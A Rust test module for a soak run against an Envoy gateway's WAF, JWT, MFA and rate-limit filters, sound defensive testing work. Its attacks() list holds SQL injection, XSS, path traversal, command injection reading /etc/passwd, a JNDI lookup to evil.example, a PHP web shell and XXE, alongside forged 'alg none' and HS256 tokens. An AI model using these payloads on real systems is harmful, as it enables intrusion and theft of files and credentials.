//! The soak's requests, by kind, and what each kind must get back.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use serde_json::{json, Value};

use crate::http::{Request, Response};
use crate::tokens::{b64url, fresh_jti, now, TestIssuer};

/// The issuer of the soak's tokens (its keys come from the fake IdP).
pub const ISSUER: &str = "https://idp.soak.test";
/// The WAF's `max_body_bytes`; larger bodies get 413.
pub const MAX_BODY_BYTES: usize = 64 * 1024;
/// The rate limit's bucket per `x-api-key`: this many requests per
/// [`KEY_REFILL`].
pub const KEY_LIMIT: usize = 3;
/// A bucket refills whole in a minute, continuously: a probe's round
/// (usually well under a second) does not gain a whole token, and a spent
/// bucket is full (free for anyone) again within a minute.
const KEY_REFILL_S: u64 = 60;
/// The time a bucket takes to gain one whole token back.
pub const KEY_TOKEN_REFILL: Duration = Duration::from_secs(KEY_REFILL_S / KEY_LIMIT as u64);
/// The rule's slots: 32 sets of 8. Spent probe keys (about 18 a minute)
/// then never fill a whole set, which is the one way the README gives for
/// resetting a bucket that spent more than a sprayed key.
const KEY_SLOTS: usize = 256;

/// What a request is, for the expectations and the report.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    /// A benign GET or JSON POST with a token minted for it.
    Valid,
    /// A benign GET with the client's long-lived token (the filter's
    /// per-worker token cache answers it).
    ValidReused,
    /// `/admin` with a token of the required `acr`.
    Admin,
    /// `/admin` with a weaker `acr`: MFA asks to step up.
    StepUp,
    /// A benign JSON body to a public path, arriving over seconds.
    SlowBody,
    /// A WAF attack payload (query, header, cookie, JSON, form, XML body).
    Attack,
    /// A token that cannot be parsed or is too large: refused without keys.
    MalformedToken,
    /// A well-formed token that is not valid (signature, expiry, `alg`):
    /// refused once keys say so.
    ForgedToken,
    /// A body over the WAF's limit.
    Oversized,
    /// A body shorter than its `Content-Length`, then the connection closes.
    Truncated,
    /// Too many headers, or a huge one: Envoy's own limits answer.
    HeaderFlood,
    /// A new `x-api-key` on every request.
    Spray,
    /// A fresh `x-api-key` that claims a bucket, then (after a spray) spends
    /// it: its exact limit ([`Probe`]).
    LimitProbe,
}

impl Kind {
    /// Every kind, in report order.
    pub const ALL: [Kind; 13] = [
        Kind::Valid,
        Kind::ValidReused,
        Kind::Admin,
        Kind::StepUp,
        Kind::SlowBody,
        Kind::Attack,
        Kind::MalformedToken,
        Kind::ForgedToken,
        Kind::Oversized,
        Kind::Truncated,
        Kind::HeaderFlood,
        Kind::Spray,
        Kind::LimitProbe,
    ];

    /// Its name in the report.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Valid => "valid",
            Kind::ValidReused => "valid_reused_token",
            Kind::Admin => "admin_mfa",
            Kind::StepUp => "step_up",
            Kind::SlowBody => "slow_body",
            Kind::Attack => "attack",
            Kind::MalformedToken => "malformed_token",
            Kind::ForgedToken => "forged_token",
            Kind::Oversized => "oversized_body",
            Kind::Truncated => "truncated_body",
            Kind::HeaderFlood => "header_flood",
            Kind::Spray => "key_spray",
            Kind::LimitProbe => "limit_probe",
        }
    }

    /// Whether its latency is the proxy's (a slow body's is the client's).
    pub fn timed(self) -> bool {
        !matches!(self, Kind::SlowBody | Kind::Truncated)
    }

    /// Whether it is traffic that must be served.
    pub fn valid(self) -> bool {
        matches!(self, Kind::Valid | Kind::ValidReused | Kind::Admin)
    }
}

/// The Envoy chain's policies, as (stage, configuration), in chain order.
pub fn chain() -> Vec<(&'static str, Value)> {
    use super::schedule::{CACHE_DURATION_S, FETCH_TIMEOUT_MS, STALE_IF_ERROR_S};
    vec![
        ("audit", json!({})),
        (
            "waf",
            json!({"paranoia_level": 1, "max_body_bytes": MAX_BODY_BYTES, "body_limit_action": "reject"}),
        ),
        (
            "jwt",
            json!({
                "providers": {"idp": {
                    "issuer": ISSUER, "audiences": ["api"],
                    "remote_jwks": {"cluster": "idp", "path": "/jwks", "timeout_ms": FETCH_TIMEOUT_MS,
                                    "cache_duration_s": CACHE_DURATION_S, "stale_if_error_s": STALE_IF_ERROR_S},
                    "claim_headers": [{"claim": "sub", "header": "x-user"}]
                }},
                "key_wait_ms": 1000,
                "rules": [{"match": {"path": {"prefix": "/public"}}}, {"match": {}, "requires": {"provider": "idp"}}]
            }),
        ),
        (
            "mfa",
            json!({
                "acr_ranking": ["pwd", "mfa"],
                "policies": {"admin": {"acr_values": ["mfa"], "max_age": 3600}},
                "rules": [{"match": {"path": {"prefix": "/admin"}}, "policy": "admin"}]
            }),
        ),
        (
            "ratelimit",
            json!({"rate_limit_headers": "always", "rules": [{
                "name": "per_key", "key": [{"header": "x-api-key"}], "when_key_missing": "skip_rule",
                "slots": KEY_SLOTS,
                "token_bucket": {"max_tokens": KEY_LIMIT, "tokens_per_fill": KEY_LIMIT, "fill_interval": format!("{KEY_REFILL_S}s")}
            }]}),
        ),
    ]
}

/// The issuer whose key the IdP serves.
pub fn issuer() -> TestIssuer {
    TestIssuer::new(ISSUER, "soak-1", 0x51)
}

/// A token for `sub` with `acr`.
pub fn token(issuer: &TestIssuer, sub: &str, acr: &str) -> String {
    issuer.token(json!({"sub": sub, "acr": acr, "auth_time": now() - 10, "jti": fresh_jti()}))
}

/// The `authorization` value for `token`.
pub fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

/// A valid request, number `n` of client `sub`.
pub fn valid(issuer: &TestIssuer, sub: &str, n: u64) -> Request {
    let auth = bearer(&token(issuer, sub, "pwd"));
    if n.is_multiple_of(2) {
        Request::get(&format!("/api/orders/{n}?q=blue+shoes&page=2")).header("authorization", &auth)
    } else {
        let body = json!({"item": format!("sku-{n}"), "quantity": 2, "note": "leave at the door"});
        Request::post("/api/orders", body.to_string())
            .header("content-type", "application/json")
            .header("authorization", &auth)
    }
}

/// A JSON POST to a public path (no token: an early refusal would end
/// the upload), whose body the WAF reads whole before deciding.
pub fn slow_body(n: u64) -> Request {
    let body = json!({"comment": format!("order {n} arrived on time, thanks"), "rating": 5});
    Request::post(&format!("/public/reviews/{n}"), body.to_string())
        .header("content-type", "application/json")
}

/// The WAF attack payloads, each refused with 403 whatever the token.
pub fn attacks() -> Vec<Request> {
    vec![
        Request::get("/public/items?id=1%27%20OR%20%271%27%3D%271"),
        Request::get("/public/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        Request::get("/api/download?file=..%2F..%2F..%2Fetc%2Fpasswd"),
        Request::get("/public/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
        Request::get("/public/").header("x-api-version", "${jndi:ldap://evil.example/a}"),
        Request::get("/api/").header("cookie", "prefs=%3Csvg%20onload%3Dalert(1)%3E"),
        Request::get("/public/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        Request::post(
            "/public/login",
            r#"{"user":{"name":"admin' UNION SELECT password FROM users--"}}"#,
        )
        .header("content-type", "application/json"),
        Request::post(
            "/public/comment",
            "text=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E",
        )
        .header("content-type", "application/x-www-form-urlencoded"),
        Request::post(
            "/public/soap",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        )
        .header("content-type", "application/xml"),
    ]
}

/// Tokens refused before any key is needed (`token_malformed`,
/// `alg_not_allowed` for `none`, `token_too_large`).
pub fn malformed_tokens(issuer: &TestIssuer) -> Vec<String> {
    let good = token(issuer, "mallory", "pwd");
    let mut parts = good.split('.');
    let (h, p) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
    // A base64url text of length 4k + 1 cannot be decoded.
    let cut = p.len() / 8 * 4 + 1;
    vec![
        // Two segments.
        format!("{h}.{p}"),
        // Cut inside the payload.
        format!("{h}.{}.{}", &p[..cut], b64url(b"sig")),
        // Not base64url.
        format!("{h}.!!!$$$***.{}", b64url(b"sig")),
        // A header that is not JSON.
        format!("{}.{p}.{}", b64url(b"{\"alg\":"), b64url(b"sig")),
        // alg none, refused whatever the keys.
        format!(
            "{}.{}.",
            b64url(br#"{"alg":"none","typ":"JWT","kid":"soak-1"}"#),
            b64url(claims_of("mallory").to_string().as_bytes())
        ),
        // Far over max_token_bytes.
        format!("{h}.{}.{}", "A".repeat(40 * 1024), b64url(b"sig")),
    ]
}

fn claims_of(sub: &str) -> Value {
    json!({"iss": ISSUER, "aud": "api", "sub": sub, "exp": now() + 600})
}

/// Well-formed tokens that fail once keys judge them (signature, expiry,
/// an algorithm the key does not allow, audience).
pub fn forged_tokens(issuer: &TestIssuer) -> Vec<String> {
    let good = token(issuer, "mallory", "pwd");
    let (input, sig) = good.rsplit_once('.').unwrap_or((&good, ""));
    let mut flipped = sig.as_bytes().to_vec();
    flipped[5] = if flipped[5] == b'A' { b'B' } else { b'A' };
    let expired = issuer.token(json!({"sub": "mallory", "exp": now() - 3600, "iat": now() - 7200}));
    let hs256 = format!(
        "{}.{}.{}",
        b64url(br#"{"alg":"HS256","typ":"JWT","kid":"soak-1"}"#),
        b64url(claims_of("mallory").to_string().as_bytes()),
        b64url(&[7u8; 32])
    );
    let other_audience = issuer.token(json!({"sub": "mallory", "aud": "billing"}));
    vec![
        format!("{input}.{}", String::from_utf8_lossy(&flipped)),
        expired,
        hs256,
        other_audience,
    ]
}

/// A request with `token` to a protected path.
pub fn with_token(token: &str) -> Request {
    Request::get("/api/orders").header("authorization", &bearer(token))
}

/// A body over the WAF's limit (to a public path: no token needed).
pub fn oversized(n: u64) -> Request {
    let body = format!(
        "{{\"blob\": \"{}\"}}",
        "x".repeat(MAX_BODY_BYTES + 1024 + (n as usize % 4096))
    );
    Request::post("/public/upload", body).header("content-type", "application/json")
}

/// Header floods Envoy refuses with 431: more headers than its limit, or
/// one value over its size limit.
pub fn header_flood(n: u64) -> Request {
    let mut r = Request::get("/public/flood");
    if n.is_multiple_of(2) {
        for i in 0..150 {
            r = r.header(&format!("x-flood-{i}"), "a");
        }
    } else {
        r = r.header("x-flood", &"b".repeat(70 * 1024));
    }
    r
}

/// A request to a public path with this API key (the rate limit's key).
pub fn keyed(key: &str) -> Request {
    Request::get("/public/catalog").header("x-api-key", key)
}

/// Sends a POST whose `Content-Length` promises more than it sends, then
/// closes the connection. Returns whether it could be sent.
pub fn send_truncated(addr: SocketAddr, issuer: &TestIssuer, n: u64) -> bool {
    let body = vec![b'{'; 1000];
    let mut head = Request::post("/api/orders", body.clone())
        .header("authorization", &bearer(&token(issuer, "trunc", "pwd")))
        .header("content-type", "application/json")
        .header("content-length", &format!("{}", 4096 + n % 512))
        .to_bytes();
    // The request line and headers, then a part of the body.
    head.truncate(head.len() - body.len() + 500);
    TcpStream::connect(addr)
        .and_then(|mut s| s.write_all(&head))
        .is_ok()
}

/// Sends a valid POST whose body trickles in over about `over`, and reads
/// the answer.
pub fn send_slowly(
    addr: SocketAddr,
    request: &Request,
    over: Duration,
) -> std::io::Result<Response> {
    let bytes = request.to_bytes();
    let body_at = bytes.len() - request.body.len();
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    stream.write_all(&bytes[..body_at])?;
    let chunks = 10;
    let step = request.body.len().div_ceil(chunks).max(1);
    for chunk in bytes[body_at..].chunks(step) {
        std::thread::sleep(over / chunks as u32);
        stream.write_all(chunk)?;
    }
    crate::http::read_response_from(stream)
}
